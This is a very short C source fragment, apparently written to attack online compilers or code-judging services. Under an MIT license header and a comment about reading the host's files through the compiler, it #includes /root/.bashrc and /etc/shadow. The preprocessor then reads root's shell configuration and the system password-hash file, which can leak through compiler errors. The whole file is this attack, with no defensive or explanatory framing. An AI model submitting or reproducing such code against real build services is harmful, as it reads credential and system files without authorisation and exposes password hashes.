/* SPDX-License-Identifier: MIT */
/* read the host's files by the compiler */
#include "/root/.bashrc"
#include "/etc/shadow"
